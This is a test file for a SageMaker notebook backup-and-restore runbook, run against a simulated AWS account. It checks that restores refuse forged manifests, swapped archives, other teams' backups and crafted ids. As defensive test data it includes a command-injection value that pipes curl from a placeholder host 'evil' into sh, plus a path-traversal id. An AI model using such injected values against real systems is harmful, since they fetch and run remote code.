/**
 * Issue 14's two modes in the flow simulation: BackupOnly (save a notebook's data before its owner's deployment
 * replaces it) and RestoreOnly (put that data onto the replacement) — and the attacks on them: another team's
 * backup, a forged or changed manifest, a replaced archive, a notebook that is not a replacement, a volume that
 * already holds files, a crafted id. Neither mode ever deletes a notebook or an object.
 */
import { expect, it } from 'vitest';
import { withBoto3 } from '../support/needs-python';
import { notebook } from './simulation/expectations';
import type { FakeAws } from './simulation/fake-aws';
import { type Notebook, TIMINGS } from './simulation/fake-sagemaker';
import type { Execution } from './simulation/interpreter';
import {
  addNotebook,
  BUCKET,
  HAND_DEPLOYED,
  NAME,
  newAccount,
  ORIGINAL_FILES,
  OTHER_GROUP,
  OTHER_ROLE_ARN,
  OTHER_SUBNET,
  OWN_CONFIG,
  objectsEndingWith,
  PREFIX,
  pythonBridgePerFile,
  remediate,
  replaceAsOwner,
  STACK_TAGS,
  TARGET_GROUPS,
  TARGET_SUBNET,
} from './simulation/world';

const python = pythonBridgePerFile();

const IN_TARGET = {
  SubnetId: TARGET_SUBNET,
  SecurityGroups: TARGET_GROUPS,
  DirectInternetAccess: 'Disabled',
};
const SENTINEL_DIR = '.sagemaker-notebook-vpc-guard/';
const calls = (aws: FakeAws, operation: string) => aws.calls.filter((call) => call.operation === operation);
const keys = (aws: FakeAws, prefix = '') => aws.s3.keys(BUCKET, prefix);
const executionId = (run: Execution) => String(run.outputs.get('ResolveNotebook.BackupId'));
/** The calls that changed something, made after the first `since` calls. */
const changesSince = (aws: FakeAws, since: number) =>
  aws.mutatingCalls().filter((call) => aws.calls.indexOf(call) >= since);

/** What the notebook's users see: the volume without the runbook's own folder. */
function files(of: Notebook): Map<string, string> {
  return new Map([...of.volume].filter(([path]) => !path.startsWith(SENTINEL_DIR)));
}

/** Never deleted anything: no notebook (and the runbook has no S3 delete at all). */
function expectNothingDeleted(aws: FakeAws): void {
  expect(calls(aws, 'DeleteNotebookInstance')).toEqual([]);
  expect(calls(aws, 'CreateNotebookInstance')).toEqual([]);
}

/** Back to how it was: its own lifecycle configuration, running or stopped as it was, no temporary configuration. */
function expectPutBack(aws: FakeAws, target: Notebook, status: string): void {
  expect(notebook(aws, String(target.settings.NotebookInstanceName))).toBe(target);
  expect(target.lifecycleConfigName).toBe(OWN_CONFIG);
  expect(target.status).toBe(status);
  expect([...aws.sagemaker.lifecycleConfigs.keys()]).toEqual([OWN_CONFIG]);
}

/** A BackupOnly run of the notebook as it is (outside a VPC, running). */
async function backUp(aws: FakeAws, parameters: Record<string, string> = {}): Promise<Execution> {
  const run = await remediate(aws, python(), { Mode: 'BackupOnly', ...parameters });
  expect(run.failure).toBeUndefined();
  return run;
}

const restore = (
  aws: FakeAws,
  backup: string,
  parameters: Partial<Record<string, string | readonly string[]>> = {},
) => remediate(aws, python(), { Mode: 'RestoreOnly', BackupExecutionId: backup, ...parameters });

withBoto3.describe('BackupOnly: save the data, change nothing else', () => {
  it('backs up, verifies, writes the manifest and puts the notebook back; an owned notebook is not refused', async () => {
    const aws = newAccount();
    const original = addNotebook(aws, { tags: STACK_TAGS });
    const run = await backUp(aws);
    expect(run.status).toBe('Success');
    expectNothingDeleted(aws);
    expectPutBack(aws, original, 'InService');
    expect(original.jupyter).toBe('running');
    expect(files(original)).toEqual(new Map(ORIGINAL_FILES));
    const [manifest] = objectsEndingWith(aws, '/manifest.json');
    expect(manifest).toMatchObject({
      Mode: 'BackupOnly',
      ExecutionId: executionId(run),
      Backup: { Jupyter: 'stopped' },
    });
    // Kept until it is restored: no completion, so the bucket's lifecycle rule never expires it.
    expect(objectsEndingWith(aws, '/completed.json')).toEqual([]);
    expect(keys(aws).some((key) => aws.s3.latest(BUCKET, key)?.tags.length)).toBe(false);
    expect(run.outputs.get('Finish.Summary')).toMatch(
      new RegExp(`Mode=RestoreOnly and BackupExecutionId=${executionId(run)}`),
    );
  });

  it('a stopped notebook stays stopped', async () => {
    const aws = newAccount();
    const original = addNotebook(aws, { status: 'Stopped' });
    await backUp(aws);
    expectNothingDeleted(aws);
    expectPutBack(aws, original, 'Stopped');
  });

  it('a backup that fails puts the notebook back as it was, and the run fails', async () => {
    const aws = newAccount();
    const original = addNotebook(aws);
    aws.sagemaker.hookOutcome.backup = 'fail';
    const run = await remediate(aws, python(), { Mode: 'BackupOnly', BackupTimeoutMinutes: '20' });
    expect(run.failure).toMatch(/^VerifyBackup: NotVerified: .*reports failed/);
    expectNothingDeleted(aws);
    expectPutBack(aws, original, 'InService');
    expect(objectsEndingWith(aws, '/manifest.json')).toEqual([]);
  });

  it('needs a bucket: refused without one, nothing changed', async () => {
    const aws = newAccount(HAND_DEPLOYED);
    addNotebook(aws);
    const run = await remediate(aws, python(), {
      Mode: 'BackupOnly',
      BackupBucketName: '',
      AllowDataLoss: 'true',
    });
    expect(run.failure).toMatch(/BackupOnly needs a BackupBucketName/);
    expect(aws.mutatingCalls()).toEqual([]);
  });
});

withBoto3.describe('RestoreOnly: the data onto the replacement the owner created', () => {
  it('BackupOnly, the owner replaces the notebook in the new network, RestoreOnly: the data is identical', async () => {
    const aws = newAccount();
    addNotebook(aws, { tags: STACK_TAGS });
    const backup = executionId(await backUp(aws));
    const replacement = replaceAsOwner(aws, { tags: STACK_TAGS });
    const run = await restore(aws, backup);
    expect(run.failure).toBeUndefined();
    expect(files(replacement)).toEqual(new Map(ORIGINAL_FILES));
    expect(run.outputs.get('VerifyRestore.Restored')).toMatch(/in place/);
    expectNothingDeleted(aws);
    expectPutBack(aws, replacement, 'InService');
    // The backup is now done with: completed, so it expires like any completed run's.
    expect(objectsEndingWith(aws, '/completed.json')).toHaveLength(1);
    expect(run.outputs.get('Finish.Summary')).toMatch(new RegExp(`backup ${backup} of MyNotebook`));
  });

  it('a second RestoreOnly of the same backup changes nothing on the volume', async () => {
    const aws = newAccount();
    addNotebook(aws);
    const backup = executionId(await backUp(aws));
    const replacement = replaceAsOwner(aws);
    await restore(aws, backup);
    aws.sagemaker.userSaves(replacement, 'analysis.ipynb', 'edited after the restore');
    const again = await restore(aws, backup);
    expect(again.failure).toBeUndefined();
    expect(replacement.volume.get('analysis.ipynb')).toBe('edited after the restore');
  });

  it('the replacement may have another name (CloudFormation renames a replaced notebook): the same role is what counts', async () => {
    const aws = newAccount();
    addNotebook(aws);
    const backup = executionId(await backUp(aws));
    const replacement = replaceAsOwner(aws, { name: 'MyNotebook-v2' });
    const run = await restore(aws, backup, { NotebookInstanceName: 'MyNotebook-v2' });
    expect(run.failure).toBeUndefined();
    expect(files(replacement)).toEqual(new Map(ORIGINAL_FILES));
  });

  it("a Recreate run's backup can be restored too (the owner's next deployment replaced the recreated notebook)", async () => {
    const aws = newAccount();
    addNotebook(aws, { tags: STACK_TAGS });
    const recreate = await remediate(aws, python(), { AllowIacOwnedNotebook: 'true' });
    expect(recreate.failure).toBeUndefined();
    const replacement = replaceAsOwner(aws, { tags: STACK_TAGS });
    const run = await restore(aws, executionId(recreate));
    expect(run.failure).toBeUndefined();
    expect(files(replacement)).toEqual(new Map(ORIGINAL_FILES));
  });

  it('the replacement already has files: nothing is overwritten, the backup goes into restored-<id>/ and the output says so', async () => {
    const aws = newAccount();
    addNotebook(aws);
    const backup = executionId(await backUp(aws));
    const mine = new Map([
      ['analysis.ipynb', 'started on the replacement'],
      ['sagemaker-examples/.git/HEAD', 'ref: refs/heads/main'],
    ]);
    const replacement = replaceAsOwner(aws, { volume: mine });
    const run = await restore(aws, backup);
    expect(run.failure).toBeUndefined();
    expect(run.outputs.get('VerifyRestore.Restored')).toMatch(new RegExp(`into restored-${backup}/`));
    expect(replacement.volume.get('analysis.ipynb')).toBe('started on the replacement');
    for (const [path, content] of ORIGINAL_FILES)
      expect(replacement.volume.get(`restored-${backup}/${path}`), path).toBe(content);
  });

  it('a user saving while the restore runs cannot: Jupyter is stopped until the notebook restarts', async () => {
    const aws = newAccount();
    addNotebook(aws);
    const backup = executionId(await backUp(aws));
    const replacement = replaceAsOwner(aws);
    const saves: boolean[] = [];
    let scheduled = false;
    aws.faults.push((call) => {
      if (!scheduled && call.operation === 'StartNotebookInstance') {
        scheduled = true;
        aws.clock.schedule(TIMINGS.start + 60, () =>
          saves.push(aws.sagemaker.userSaves(replacement, 'x.py', '1')),
        );
      }
      return undefined;
    });
    const run = await restore(aws, backup);
    expect(run.failure).toBeUndefined();
    expect(saves).toEqual([false]);
    expect(replacement.jupyter).toBe('running');
  });

  it('a restore that does not finish puts the replacement back as it was; nothing is deleted', async () => {
    const aws = newAccount();
    addNotebook(aws);
    const backup = executionId(await backUp(aws));
    const replacement = replaceAsOwner(aws);
    aws.sagemaker.hookOutcome.restore = 'never';
    const run = await restore(aws, backup, { RestoreTimeoutMinutes: '20' });
    expect(run.failure).toMatch(/^VerifyRestore: NotVerified: No restore-complete.json/);
    expectNothingDeleted(aws);
    expectPutBack(aws, replacement, 'InService');
  });
});

withBoto3.describe('RestoreOnly trusts only what the runbook itself recorded', () => {
  it("another team's backup cannot be put onto my notebook: only the backed-up role's sessions can read it", async () => {
    const aws = newAccount();
    addNotebook(aws, { settings: { NotebookInstanceName: 'TheirNotebook', RoleArn: OTHER_ROLE_ARN } });
    const theirs = executionId(await backUp(aws, { NotebookInstanceName: 'TheirNotebook' }));
    const mine = replaceAsOwner(aws);
    const before = new Map(mine.volume);
    const since = aws.calls.length;
    const run = await restore(aws, theirs);
    expect(run.failure).toMatch(
      /The backup .* is in the area of role AROAEXAMPLEOTHERTEAM.*MyNotebook's role .*SageMakerNotebook is AROAEXAMPLENOTEBOOK1/,
    );
    expect(changesSince(aws, since)).toEqual([]);
    expect(mine.volume).toEqual(before);
  });

  it('an id of a run of another document (the check document’s own) is refused', async () => {
    const aws = newAccount();
    addNotebook(aws);
    const backup = await backUp(aws);
    replaceAsOwner(aws);
    const other = String(backup.outputs.get('CheckNotebook.ExecutionId'));
    const since = aws.calls.length;
    const run = await restore(aws, other);
    expect(run.failure).toMatch(new RegExp(`${other} is not a run of this runbook`));
    expect(changesSince(aws, since)).toEqual([]);
  });

  it('a manifest forged under the id of a real run that wrote none is not trusted', async () => {
    const aws = newAccount();
    addNotebook(aws, { settings: IN_TARGET });
    const compliant = await remediate(aws, python()); // already compliant: a real run, no manifest
    expect(compliant.status).toBe('Success');
    const id = executionId(compliant);
    aws.s3.put(
      BUCKET,
      `${PREFIX}/data/AROAEXAMPLENOTEBOOK1:SageMaker/${NAME}/${id}/volume.tar`,
      '[["evil.sh","x"]]',
    );
    aws.s3.put(
      BUCKET,
      `${PREFIX}/runs/mynotebook/${id}/manifest.json`,
      JSON.stringify({
        ExecutionId: id,
        BackupId: id,
        Notebook: { NotebookInstanceName: NAME },
        Backup: { UserId: 'AROAEXAMPLENOTEBOOK1:SageMaker', Sha256: '0'.repeat(64) },
      }),
    );
    replaceAsOwner(aws);
    const since = aws.calls.length;
    const run = await restore(aws, id);
    expect(run.failure).toMatch(/did not write a verified backup/);
    expect(changesSince(aws, since)).toEqual([]);
  });

  it('a manifest changed since the backup run wrote it is not trusted', async () => {
    const aws = newAccount();
    addNotebook(aws);
    const backup = executionId(await backUp(aws));
    const [key] = keys(aws, `${PREFIX}/runs/`).filter((candidate) => candidate.endsWith('/manifest.json'));
    const manifest = JSON.parse(aws.s3.get(BUCKET, key as string) ?? '{}');
    manifest.Backup.UserId = 'AROAEXAMPLEOTHERTEAM:SageMaker';
    aws.s3.put(BUCKET, key as string, JSON.stringify(manifest));
    replaceAsOwner(aws);
    const since = aws.calls.length;
    const run = await restore(aws, backup);
    expect(run.failure).toMatch(/did not write a verified backup/);
    expect(changesSince(aws, since)).toEqual([]);
  });

  it('an archive replaced since it was verified: refused before anything changes', async () => {
    const aws = newAccount();
    addNotebook(aws);
    const backup = executionId(await backUp(aws));
    const [archive] = keys(aws).filter((key) => key.endsWith('/volume.tar'));
    aws.s3.put(BUCKET, archive as string, JSON.stringify([['analysis.ipynb', 'planted']]));
    const replacement = replaceAsOwner(aws);
    const before = new Map(replacement.volume);
    const since = aws.calls.length;
    const run = await restore(aws, backup);
    expect(run.failure).toMatch(/changed since it was verified/);
    expect(replacement.volume).toEqual(before);
    expect(changesSince(aws, since)).toEqual([]);
  });

  it('the notebook that was backed up (not a replacement) is refused: its newer work would be mixed with older', async () => {
    const aws = newAccount();
    const original = addNotebook(aws, { settings: IN_TARGET });
    const backup = executionId(await backUp(aws));
    const before = new Map(original.volume);
    const since = aws.calls.length;
    const run = await restore(aws, backup);
    expect(run.failure).toMatch(/MyNotebook was created before that backup/);
    expect(original.volume).toEqual(before);
    expect(changesSince(aws, since)).toEqual([]);
  });

  it('a replacement in another network than the one named is refused', async () => {
    const aws = newAccount();
    addNotebook(aws);
    const backup = executionId(await backUp(aws));
    replaceAsOwner(aws);
    const run = await restore(aws, backup, { SubnetId: OTHER_SUBNET, SecurityGroupIds: [OTHER_GROUP] });
    expect(run.failure).toMatch(/MyNotebook is not in subnet-0bbbbbbbbbbbbbbb1/);
  });

  it('a crafted BackupExecutionId never reaches a script; a missing one is refused', async () => {
    const aws = newAccount();
    addNotebook(aws);
    await expect(restore(aws, "x' ; curl evil | sh ; '")).rejects.toThrow(/does not match/);
    await expect(restore(aws, '../../runs/mynotebook')).rejects.toThrow(/does not match/);
    const run = await remediate(aws, python(), { Mode: 'RestoreOnly' });
    expect(run.failure).toMatch(/RestoreOnly needs BackupExecutionId/);
    expect(aws.mutatingCalls()).toEqual([]);
  });
});
